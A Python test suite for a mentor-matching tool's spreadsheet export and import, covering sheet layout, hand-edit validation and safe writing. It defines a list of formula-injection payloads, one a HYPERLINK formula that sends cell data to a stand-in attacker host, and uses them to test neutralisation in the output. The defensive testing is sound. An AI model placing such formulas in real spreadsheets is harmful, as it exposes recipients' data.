"""The pairing workbook: written safely, read back after hand edits, with what no longer holds."""

from __future__ import annotations

import gc
import hashlib
import math
import shutil
import subprocess
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from openpyxl.utils.escape import unescape
from python_calamine import CalamineWorkbook

from mentorcli import workbook
from mentorcli.config import Config
from mentorcli.errors import MentorError
from mentorcli.model import (
    PEOPLE_COLUMNS,
    MatchResult,
    Problem,
    Roster,
    SourceFile,
    make_people,
)
from mentorcli.workbook import (
    SHEETS,
    kept_pairs,
    read_pair_list,
    read_pairing_workbook,
    write_pairing_workbook,
    write_pairs_csv,
)

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]


def person(name: str, email: str, role: str, **fields) -> dict:
    base = {"name": name, "email": email, "role": role, "languages": ("English",), "timezone": "Europe/London",
            "availability": ("Weekday evenings",), "format": ("video",), "source_file": "signups.csv",
            "source_sheet": "", "timestamp": "2026-09-01T10:00:00Z"}
    base.update(fields)
    return base


def cohort() -> Roster:
    """Three mentors, four mentees (one "both"): small enough to know every expected problem."""
    people = make_people([
        person("Ada Lovelace", "ada@example.org", "mentor", capacity=2, expertise=("Data science", "Leadership"),
               organisation="Acme", department="Engineering", experience=20, industry="Software",
               interests=("chess", "running"), source_row=2),
        person("Grace Hopper", "grace@example.org", "mentor", capacity=1, expertise=("Compilers",),
               organisation="Navy", department="Research", experience=30.5, source_row=3,
               languages=("English", "French")),
        person("Linus T", "linus@example.org", "mentor", capacity=1, expertise=("Kernels",),
               organisation="Acme", department="Data", experience=12, source_row=4, avoid="Mia Wong"),
        person("Mia Wong", "mia@example.org", "mentee", goals=("Data science",), organisation="Acme",
               department="Marketing", experience=2, interests=("chess",), source_row=5,
               timestamp="2026-09-03T08:30:00Z"),
        person("Noah Smith", "noah@example.org", "mentee", goals=("Compilers", "Leadership"), experience=1,
               organisation="Globex", source_row=6, choices=("Grace Hopper", "Ada Lovelace")),
        person("Olivia Chen", "olivia@example.org", "both", capacity=1, wants=1, goals=("Kernels",),
               expertise=("Design",), organisation="Initech", source_row=7, timezone="UTC+05:30"),
        person("Pat Doe", "pat@example.org", "mentee", goals=("Leadership",), source_row=8, wants=2),
    ])
    problems = [Problem("signups.csv", "", 9, "Email", "error", "email is blank; row left out")]
    sources = [SourceFile("signups.csv", "ab" * 32, "", None, 8)]
    return Roster(people=people, problems=problems, columns={"name": "Name"}, sources=sources)


def result_for(roster: Roster) -> MatchResult:
    """The pairing a matcher could have chosen for ``cohort()``: built by hand, indices into People."""
    pairs = pd.DataFrame({
        "pair_id": ["P001", "P002", "P003", "P004"],
        "mentee": [3, 4, 5, 6],
        "mentor": [0, 1, 2, 0],
        "score": [81.25, 64.0, 55.5, 47.0],
        "c_topics": [1.0, 0.5, 1.0, 0.0],
        "c_industry": [np.nan, np.nan, np.nan, np.nan],
        "c_experience": [0.8, 0.2, 0.9, np.nan],
        "c_availability": [1.0, 1.0, 0.25, 1.0],
        "c_format": [1.0, 1.0, 1.0, 1.0],
        "c_interests": [1.0, np.nan, np.nan, np.nan],
        "requested": [False, True, False, False],
        "kept": [False, False, False, False],
        "why": ["Shares Data science; both like chess.", "Noah chose Grace.", "Kernels.", "Leadership."],
    })
    unmatched = pd.DataFrame({"person": [6], "role": ["mentee"],
                              "reason": ["Wants 2 mentors; the only other mentor who offers Leadership is full."]})
    mentors = pd.DataFrame({"person": [0, 1, 2, 5], "capacity": [2, 1, 1, 1], "assigned": [2, 1, 1, 0]})
    return MatchResult(pairs=pairs, unmatched=unmatched, mentors=mentors, total_score=247.75, min_score=47.0,
                       mean_score=61.9375, notes=["1 request honoured."], settings={"solver": "test"})


def config() -> Config:
    cfg = Config()
    cfg.rules.forbid_same_team = True
    return cfg


@pytest.fixture
def written(tmp_path: Path) -> tuple[Path, Roster, MatchResult]:
    roster = cohort()
    result = result_for(roster)
    path = write_pairing_workbook(tmp_path / "pairs.xlsx", roster, result, config(), force=False)
    return path, roster, result


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def header_row(sheet) -> list:
    return [c.value for c in next(sheet.iter_rows(min_row=1, max_row=1))]


def test_sheets_headers_and_layout(written):
    path, _, _ = written
    book = openpyxl.load_workbook(path)
    assert tuple(book.sheetnames) == SHEETS == ("Pairs", "Unmatched", "Mentors", "Problems", "People", "Settings")
    assert header_row(book["Pairs"]) == [
        "Pair ID", "Mentee", "Mentee Email", "Mentor", "Mentor Email", "Score", "Why",
        "Topics", "Industry", "Experience", "Availability", "Format", "Interests", "Requested", "Kept"]
    assert header_row(book["Unmatched"]) == ["Name", "Email", "Role", "Reason"]
    assert header_row(book["Mentors"])[:4] == ["Mentor", "Mentor Email", "Capacity", "Assigned"]
    assert header_row(book["Problems"]) == ["File", "Sheet", "Row", "Column", "Severity", "Problem"]
    assert header_row(book["Settings"]) == ["Setting", "Value"]
    for name in SHEETS:
        sheet = book[name]
        assert sheet.freeze_panes == "A2", name
        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:"), name
        widths = [d.width for d in sheet.column_dimensions.values() if d.width]
        assert widths and max(widths) <= 61, name
    pairs = book["Pairs"]
    assert pairs["A2"].value == "P001" and pairs["C2"].value == "mia@example.org"
    assert pairs["F2"].value == 81.25 and pairs["F2"].number_format == "0.0"
    assert pairs["H2"].value == 100 and pairs["I2"].value is None  # industry not counted: blank, not 0
    assert pairs["N3"].value == "Yes" and pairs["N2"].value is None and pairs["O2"].value is None
    assert book["Unmatched"]["B2"].value == "pat@example.org"
    assert [c.value for c in book["Mentors"][5]][:4] == ["Olivia Chen", "olivia@example.org", 1, 0]
    problems = [[c.value for c in row] for row in book["Problems"].iter_rows(min_row=2)]
    assert problems == [["signups.csv", None, 9, "Email", "error", "email is blank; row left out"],
                        ["mentor match", None, None, None, "warning", "1 request honoured."]]
    settings = {row[0].value: row[1].value for row in book["Settings"].iter_rows(min_row=2)}
    assert settings["input 1 sha256"] == "ab" * 32
    assert settings["weights.topics"] == "40" and settings["solver.solver"] == "test"
    assert settings["rules.forbid_same_team"] == "true"
    assert book.properties.created.isoformat().startswith("2026-09-03T08:30")


def test_round_trip_gives_people_back_in_model_types(written):
    path, roster, _ = written
    book = read_pairing_workbook(path, config())
    assert book.problems == []
    assert list(book.pairs.columns) == ["pair_id", "mentee_email", "mentor_email", "mentee", "mentor", "score", "why", "row"]
    assert book.pairs["pair_id"].tolist() == ["P001", "P002", "P003", "P004"]
    assert book.pairs["mentor_email"].tolist() == ["ada@example.org", "grace@example.org", "linus@example.org", "ada@example.org"]
    assert book.pairs["row"].tolist() == [2, 3, 4, 5]
    assert book.pairs["score"].tolist() == [81.25, 64.0, 55.5, 47.0]
    assert list(book.people.columns) == list(PEOPLE_COLUMNS)
    left_out = ["request", "timestamp", "source_file", "source_sheet", "source_row"]  # see workbook.py
    for column in PEOPLE_COLUMNS:
        if column in left_out:
            continue
        for got, want in zip(book.people[column], roster.people[column]):
            if isinstance(want, float) and math.isnan(want):
                assert isinstance(got, float) and math.isnan(got), column
            else:
                assert got == want and type(got) is type(want), column
    assert book.people["goals"].iloc[4] == ("Compilers", "Leadership")
    assert book.people["experience"].iloc[1] == 30.5
    assert book.people["capacity"].iloc[0] == 2 and book.people["wants"].iloc[6] == 2
    assert book.settings["objective"] == "places"
    assert set(book.people["source_file"]) == {str(path)} and set(book.people["source_sheet"]) == {"People"}
    assert book.people["source_row"].tolist() == list(range(2, 9))
    assert kept_pairs(book) == [("P001", "mia@example.org", "ada@example.org"),
                                ("P002", "noah@example.org", "grace@example.org"),
                                ("P003", "olivia@example.org", "linus@example.org"),
                                ("P004", "pat@example.org", "ada@example.org")]


def edit(path: Path, change) -> Path:
    """Edit the workbook the way a coordinator's spreadsheet program would: load, change, save."""
    book = openpyxl.load_workbook(path)
    change(book)
    edited = path.with_name("edited.xlsx")
    book.save(edited)
    return edited


def test_deleted_row_is_simply_gone(written):
    path, _, _ = written
    edited = edit(path, lambda b: b["Pairs"].delete_rows(3))
    book = read_pairing_workbook(edited, config())
    assert book.pairs["pair_id"].tolist() == ["P001", "P003", "P004"]
    assert book.pairs["row"].tolist() == [2, 3, 4]
    assert book.problems == []


def test_swapped_mentor_over_capacity_is_reported_exactly(written):
    path, _, _ = written

    def swap(book):
        book["Pairs"]["E3"] = "Linus@Example.org "  # P002: Grace -> Linus, who already mentors P003

    edited = edit(path, swap)
    book = read_pairing_workbook(edited, config())
    file = str(edited)
    assert book.pairs.set_index("pair_id").loc["P002", "mentor_email"] == "linus@example.org"
    assert book.pairs.set_index("pair_id").loc["P002", "mentor"] == "Linus T"
    assert book.problems == [
        Problem(file, "Pairs", 3, "Mentor", "warning",
                "Mentor name does not match the People sheet for Mentor Email; the People name is used"),
        Problem(file, "Pairs", 4, "Mentor Email", "warning", "mentor is over capacity: 2 pairs (rows 3, 4), capacity 1"),
    ]


def test_unknown_email_and_repeats_are_left_out_and_reported(written):
    path, _, _ = written

    def damage(book):
        pairs = book["Pairs"]
        pairs["C2"] = "nobody@example.org"
        pairs.append(["P003", "Olivia Chen", "olivia@example.org", "Linus T", "linus@example.org", 55.5])
        pairs.append(["", "Olivia Chen", "olivia@example.org", "Olivia Chen", "olivia@example.org"])
        pairs.append(["P002", "Pat Doe", "pat@example.org", "Grace Hopper", "grace@example.org"])
        pairs.append(["P009", "Ada Lovelace", "ada@example.org", "Grace Hopper", "grace@example.org"])

    edited = edit(path, damage)
    book = read_pairing_workbook(edited, config())
    file = str(edited)
    assert book.problems == [
        Problem(file, "Pairs", 2, "Mentee Email", "error",
                "Mentee Email is not in the People sheet; pair left out. Fix the address or add the person to People"),
        Problem(file, "Pairs", 6, "Mentor Email", "error", "same pair as row 4; this row is left out"),
        Problem(file, "Pairs", 7, "Mentor Email", "error", "a person is paired with themselves; pair left out"),
        Problem(file, "Pairs", 8, "Pair ID", "warning", "Pair ID is also used in row 3; this pair is read as P005"),
        Problem(file, "Pairs", 8, "Mentor Email", "warning", "mentor is over capacity: 2 pairs (rows 3, 8), capacity 1"),
        Problem(file, "Pairs", 9, "Mentee Email", "error",
                "Mentee Email names a mentor in People, not a mentee; pair left out"),
    ]
    assert book.pairs["pair_id"].tolist() == ["P002", "P003", "P004", "P005"]


def test_reordered_and_extra_columns_and_moved_sheets_are_fine(written):
    path, _, _ = written

    def shuffle(book):
        pairs = book["Pairs"]
        pairs.insert_cols(1)
        pairs["A1"] = "Coordinator comment"
        pairs["A2"] = "=1+1"
        pairs.move_range("D1:D5", cols=20)  # Mentee Email moved to the far right
        book.move_sheet("Settings", offset=-5)

    book = read_pairing_workbook(edit(path, shuffle), config())
    assert book.problems == []
    assert book.pairs["mentee_email"].tolist() == ["mia@example.org", "noah@example.org", "olivia@example.org", "pat@example.org"]


def test_missing_sheet_or_column_is_one_clear_error(written, tmp_path):
    path, _, _ = written
    no_people = edit(path, lambda b: b.remove(b["People"]))
    with pytest.raises(MentorError, match=r"edited\.xlsx: has no sheet 'People'"):
        read_pairing_workbook(no_people, config())
    no_column = edit(path, lambda b: b["Pairs"].delete_cols(5))
    with pytest.raises(MentorError, match=r"sheet 'Pairs' has no column 'Mentor Email'. Put the column back"):
        read_pairing_workbook(no_column, config())
    with pytest.raises(MentorError, match="not found"):
        read_pairing_workbook(tmp_path / "absent.xlsx", config())
    junk = tmp_path / "junk.xlsx"
    junk.write_text("not a spreadsheet")
    with pytest.raises(MentorError, match="cannot be read as a spreadsheet"):
        read_pairing_workbook(junk, config())


def test_people_sheet_problems_are_reported(written):
    path, _, _ = written

    def damage(book):
        people = book["People"]
        people["C3"] = "boss"  # Grace's role
        people.append(["Mia Again", "MIA@example.org", "mentee"])
        people["Q2"] = "lots"  # Ada's capacity

    edited = edit(path, damage)
    book = read_pairing_workbook(edited, config())
    file = str(edited)
    people_problems = [p for p in book.problems if p.sheet == "People"]
    assert people_problems == [
        Problem(file, "People", 2, "Capacity", "warning", "capacity is not a whole number; read as 0"),
        Problem(file, "People", 3, "Role", "error", "role must be mentor, mentee or both; person left out"),
        Problem(file, "People", 9, "Email", "error", "same email as row 5; this row is left out"),
    ]
    pair_problems = [p for p in book.problems if p.sheet == "Pairs"]
    assert [(p.row, p.column, p.severity) for p in pair_problems] == [(2, "Mentor Email", "warning"), (3, "Mentor Email", "error")]
    assert "grace@example.org" not in book.people["email"].tolist()


def test_hostile_cells_stay_text_in_xlsx(tmp_path):
    roster = cohort()
    people = roster.people.copy()
    for i, text in enumerate(HOSTILE):
        people.loc[i, "name"] = text
    people.at[3, "goals"] = tuple(HOSTILE)
    people.loc[4, "organisation"] = HOSTILE[0]
    roster.people = people
    result = result_for(roster)
    result.pairs.loc[0, "why"] = HOSTILE[0]
    result.pairs.loc[1, "pair_id"] = "=1+2"
    path = write_pairing_workbook(tmp_path / "pairs.xlsx", roster, result, config(), force=False)

    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    names = [book["People"].cell(row=r, column=1) for r in range(2, 2 + len(HOSTILE))]
    # openpyxl leaves OOXML's _x000D_ escape undecoded; Excel and LibreOffice decode it
    assert [unescape(c.value) for c in names] == HOSTILE
    assert all(c.data_type == "s" for c in names)
    assert book["Pairs"]["A3"].value == "=1+2" and book["Pairs"]["G2"].value == HOSTILE[0]
    calamine = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("People").to_python()
    assert [row[0] for row in calamine[1:1 + len(HOSTILE)]] == HOSTILE
    back = read_pairing_workbook(path, config())
    assert back.people["name"].tolist()[:4] == [h.strip() for h in HOSTILE[:4]]
    assert back.people["goals"].iloc[3] == tuple(h.strip() for h in HOSTILE)


def test_hostile_cells_are_neutralised_in_csv(tmp_path):
    roster = cohort()
    people = roster.people.copy()
    for i, text in enumerate(HOSTILE):
        people.loc[i, "name"] = text
    roster.people = people
    result = result_for(roster)
    result.pairs.loc[0, "why"] = "-2+3"
    path = write_pairs_csv(tmp_path / "pairs.csv", roster, result, force=False)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    frame = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(frame.columns[:7]) == ["Pair ID", "Mentee", "Mentee Email", "Mentor", "Mentor Email", "Score", "Why"]
    assert frame["Mentor"].tolist() == ["'" + HOSTILE[0], "'+1", "'-1", "'" + HOSTILE[0]]
    assert frame["Why"].iloc[0] == "'-2+3"
    assert frame["Score"].tolist() == ["81.25", "64", "55.5", "47"]
    for value in frame.to_numpy().ravel():
        assert not str(value).startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_same_input_gives_identical_bytes(tmp_path):
    first = write_pairing_workbook(tmp_path / "a.xlsx", cohort(), result_for(cohort()), config(), force=False)
    second = write_pairing_workbook(tmp_path / "b.xlsx", cohort(), result_for(cohort()), config(), force=False)
    assert sha(first) == sha(second)
    csv_a = write_pairs_csv(tmp_path / "a.csv", cohort(), result_for(cohort()), force=False)
    csv_b = write_pairs_csv(tmp_path / "b.csv", cohort(), result_for(cohort()), force=False)
    assert sha(csv_a) == sha(csv_b)
    changed = result_for(cohort())
    changed.pairs.loc[0, "score"] = 80.0
    third = write_pairing_workbook(tmp_path / "c.xlsx", cohort(), changed, config(), force=False)
    assert sha(third) != sha(first)


def awkward_inputs() -> tuple[Roster, MatchResult]:
    """Every kind of cell the writer treats specially: hostile text, blanks, NaN, -0, over-long text."""
    roster = cohort()
    people = roster.people.copy()
    for i, text in enumerate(HOSTILE):
        people.loc[i, "name"] = text
    people.at[3, "goals"] = tuple(HOSTILE)
    people.at[4, "interests"] = ("chess", 7)  # a list field holding a number
    people.loc[5, "organisation"] = "x" * 40_000  # over Excel's 32,767 characters: cut by xlsxwriter
    people.loc[6, "experience"] = -0.0
    roster.people = people
    roster.problems = [*roster.problems, Problem("signups.csv", "", 12_345, "Email", "error", "y" * 300)]
    result = result_for(roster)
    result.pairs.loc[0, "why"] = HOSTILE[0]
    result.pairs.loc[1, "pair_id"] = "=1+2"
    result.pairs.loc[2, "score"] = np.nan
    result.pairs.loc[3, "c_topics"] = -0.0
    return roster, result


def test_awkward_cells_are_written_as_what_they_are_and_the_same_way_twice(tmp_path):
    roster, result = awkward_inputs()
    first = write_pairing_workbook(tmp_path / "first.xlsx", roster, result, config(), force=False)
    again = write_pairing_workbook(tmp_path / "again.xlsx", *awkward_inputs(), config(), force=False)
    assert sha(again) == sha(first)
    book = openpyxl.load_workbook(first)
    people = book["People"]
    assert people["P6"].value == "chess; 7" and people["H7"].value == "x" * 32_767  # Noah's interests, Olivia's organisation
    assert people["J8"].value == 0 and book["Pairs"]["F4"].value is None  # -0.0 written, NaN score blank
    assert book["Problems"]["C3"].value == 12_345


def test_number_widths_count_every_distinct_text():
    column = workbook.Column("No", [None, 1.0, -0.0, 0.0, float("nan"), 12.5], "number")
    assert workbook._fitted_width(column) == len("12.5") + 2
    assert workbook._fitted_width(workbook.Column("N", [0.0, -0.0], "number")) == len("-0") + 2
    assert workbook._fitted_width(workbook.Column("N", [None], "number")) == len("N") + 2


def test_writing_and_reading_leave_the_garbage_collector_as_they_found_it(tmp_path):
    assert gc.isenabled()
    path = write_pairing_workbook(tmp_path / "pairs.xlsx", cohort(), result_for(cohort()), config(), force=False)
    read_pairing_workbook(path, config())
    assert gc.isenabled()
    with pytest.raises(MentorError):
        write_pairing_workbook(path, cohort(), result_for(cohort()), config(), force=False)
    assert gc.isenabled()
    gc.disable()
    try:
        write_pairing_workbook(tmp_path / "b.xlsx", cohort(), result_for(cohort()), config(), force=False)
        read_pairing_workbook(path, config())
        assert not gc.isenabled()
    finally:
        gc.enable()


def test_a_capacity_that_is_not_a_finite_number_is_reported_not_a_crash(written):
    path, _, _ = written

    def damage(book):
        book["People"]["Q2"] = "inf"  # Ada's capacity, as text
        book["People"]["Q3"] = -1

    edited = edit(path, damage)
    book = read_pairing_workbook(edited, config())
    people_problems = [(p.row, p.column, p.problem) for p in book.problems if p.sheet == "People"]
    assert people_problems == [(2, "Capacity", "capacity is not a whole number; read as 0"),
                               (3, "Capacity", "capacity is not a whole number; read as 0")]
    assert book.people["capacity"].tolist()[:2] == [0, 0]


def test_overwrite_refused_without_force_and_backup_kept_with_it(written):
    path, roster, result = written
    before = path.read_bytes()
    with pytest.raises(MentorError, match="already exists.*--force"):
        write_pairing_workbook(path, roster, result, config(), force=False)
    assert path.read_bytes() == before
    changed = result_for(roster)
    changed.pairs.loc[0, "why"] = "Changed."
    write_pairing_workbook(path, roster, changed, config(), force=True)
    backup = path.with_name("pairs.bak.xlsx")
    assert backup.read_bytes() == before
    assert read_pairing_workbook(path, config()).pairs["why"].iloc[0] == "Changed."
    assert sorted(p.name for p in path.parent.iterdir()) == ["pairs.bak.xlsx", "pairs.xlsx"]  # no temp files left
    csv_path = path.with_name("pairs.csv")
    write_pairs_csv(csv_path, roster, result, force=False)
    with pytest.raises(MentorError, match="already exists"):
        write_pairs_csv(csv_path, roster, result, force=False)


def test_read_pair_list_from_csv_fixtures(external):
    folder = external / "oppenheimer-fixtures"
    assert read_pair_list(folder / "previous_matches_ok.csv") == [("mentee@example.com", "mentor@example.com")]
    with pytest.raises(MentorError, match=r"previous_matches_blank_email\.csv: row 2: the mentee email is blank"):
        read_pair_list(folder / "previous_matches_blank_email.csv")
    with pytest.raises(MentorError, match="has no mentee and mentor email columns"):
        read_pair_list(folder / "previous_matches_missing_column.csv")


def test_read_pair_list_tolerates_header_spellings_and_workbooks(written, tmp_path):
    path, _, _ = written
    assert read_pair_list(path) == [(m, t) for _, m, t in kept_pairs(read_pairing_workbook(path, config()))]
    semicolon = tmp_path / "earlier.csv"
    semicolon.write_bytes("Mentor Email;Notes;Mentee Email\r\n ADA@example.org ;café;Mia@Example.org\r\n;;\r\n".encode("cp1252"))
    assert read_pair_list(semicolon) == [("mia@example.org", "ada@example.org")]
    plain = tmp_path / "plain.csv"
    plain.write_text("mentee,mentor\nmia@example.org,ada@example.org\n")
    assert read_pair_list(plain) == [("mia@example.org", "ada@example.org")]
    other = tmp_path / "x.json"
    other.write_text("{}")
    with pytest.raises(MentorError, match="cannot read .json"):
        read_pair_list(other)


def test_rules_broken_by_edits_are_reported_with_the_matchers_own_rules(written):
    path, _, _ = written

    def break_rules(book):
        pairs, people = book["Pairs"], book["People"]
        pairs["E2"] = "linus@example.org"  # Mia -> Linus, who wrote Mia in his avoid answer
        pairs["E4"] = "ada@example.org"  # Olivia (UTC+05:30) -> Ada (London)
        people["L6"] = "German"  # Noah now shares no language with Grace (row 3)
        people["I7"] = "Engineering"  # Olivia's department
        people["H7"] = "Acme"  # ... and organisation: now Ada's team

    edited = edit(path, break_rules)
    file = str(edited)
    rename = "Mentor name does not match the People sheet for Mentor Email; the People name is used"
    book = read_pairing_workbook(edited, config())
    assert book.problems == [
        Problem(file, "Pairs", 2, "Mentor", "warning", rename),
        Problem(file, "Pairs", 2, "Mentor Email", "warning", "breaks a rule: named in an avoid list"),
        Problem(file, "Pairs", 3, "Mentor Email", "warning", "breaks a rule: share no language"),
        Problem(file, "Pairs", 4, "Mentor", "warning", rename),
        Problem(file, "Pairs", 4, "Mentor Email", "warning", "breaks a rule: same team"),
    ]
    strict = config()
    strict.rules.forbid_same_organisation = True
    strict.rules.max_timezone_gap = 3
    rules = [(p.row, p.problem) for p in read_pairing_workbook(edited, strict).problems if "rule" in p.problem]
    assert rules == [
        (2, "breaks a rule: same organisation"), (2, "breaks a rule: named in an avoid list"),
        (3, "breaks a rule: share no language"),
        (4, "breaks a rule: same team"), (4, "breaks a rule: same organisation"), (4, "breaks a rule: too many hours apart"),
    ]
    assert len(book.pairs) == 4  # rule breaks are the coordinator's call: kept, reported


@pytest.mark.skipif(not (shutil.which("soffice") or shutil.which("libreoffice")), reason="LibreOffice not installed")
def test_workbook_opens_in_libreoffice_and_reads_back(tmp_path):
    roster = cohort()
    people = roster.people.copy()
    people.loc[0, "name"] = HOSTILE[0]
    people.loc[1, "name"] = "@SUM(A1)"
    roster.people = people
    path = write_pairing_workbook(tmp_path / "pairs.xlsx", roster, result_for(roster), config(), force=False)
    out = tmp_path / "lo"
    office = shutil.which("soffice") or shutil.which("libreoffice")
    subprocess.run([office, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to", "xlsx",
                    "--outdir", str(out), str(path)], check=True, capture_output=True, timeout=180)
    saved = openpyxl.load_workbook(out / "pairs.xlsx")
    assert saved.sheetnames == list(SHEETS)
    assert [(c.value, c.data_type) for c in saved["People"]["A"][1:3]] == [(HOSTILE[0], "s"), ("@SUM(A1)", "s")]
    again = read_pairing_workbook(out / "pairs.xlsx", config())
    original = read_pairing_workbook(path, config())
    assert again.problems == []
    pd.testing.assert_frame_equal(again.pairs.drop(columns="row"), original.pairs.drop(columns="row"))
    pd.testing.assert_frame_equal(again.people.drop(columns="source_file"), original.people.drop(columns="source_file"))


def test_a_csv_named_as_the_pairing_workbook_gets_a_line_that_says_why(tmp_path):
    from mentorcli.config import Config
    from mentorcli.errors import MentorError
    from mentorcli.workbook import read_pairing_workbook

    csv = tmp_path / "pairs.csv"
    csv.write_text("Pair ID,Mentee Email\nP001,a@example.org\n")
    with pytest.raises(MentorError, match="is not a pairing workbook.*mentor match"):
        read_pairing_workbook(csv, Config())


def block_inputs() -> tuple[Roster, MatchResult]:
    """40 people: rows in several blocks of 16 (xlsxwriter's ``spans``), whole blocks where the
    last columns are blank, a row blank after its first cell, and a string cut at Excel's limit
    in the middle of a character outside the BMP."""
    people = []
    for i in range(40):
        role = "mentor" if i % 4 == 0 else "mentee"
        fields = {"capacity": 3} if role == "mentor" else {"goals": ("Leadership",)}
        if i < 15 or i >= 31:  # Avoid and Choices (the last People columns) blank in rows 17-32: a block
            fields.update(avoid=f"Person {i + 1}", choices=(f"Person {i + 2}",))
        if i == 20:
            fields["organisation"] = "x" * 32_766 + "\U0001F600"  # 32,768 UTF-16 units: the emoji is cut
        people.append(person(f"Person {i}", f"p{i}@example.org", role, source_row=i + 2, **fields))
    roster = Roster(people=make_people(people), problems=[], columns={"name": "Name"},
                    sources=[SourceFile("signups.csv", "cd" * 32, "", None, 40)])
    mentees = [i for i in range(40) if i % 4]
    pairs = pd.DataFrame({
        "pair_id": [f"P{k + 1:03d}" for k in range(len(mentees))], "mentee": mentees,
        "mentor": [4 * (k % 10) for k in range(len(mentees))],
        "score": [float(k) if k % 17 else np.nan for k in range(len(mentees))],
        "requested": [k % 5 == 0 for k in range(len(mentees))], "kept": False,
        "why": ["" if 16 <= k < 33 else f"why {k}" for k in range(len(mentees))],
    })
    mentors = pd.DataFrame({"person": list(range(0, 40, 4)), "capacity": 3, "assigned": 3})
    result = MatchResult(pairs=pairs, unmatched=pd.DataFrame({"person": [], "role": [], "reason": []}),
                         mentors=mentors, total_score=1.0, min_score=0.0, mean_score=0.5, notes=[], settings={})
    return roster, result


def test_rows_with_blank_blocks_and_a_cut_character_read_back(tmp_path):
    written = write_pairing_workbook(tmp_path / "blocks.xlsx", *block_inputs(), config(), force=False)
    people = openpyxl.load_workbook(written)["People"]
    assert people["H22"].value == "x" * 32_766 and people["T17"].value is None and people["T33"].value == "Person 33"
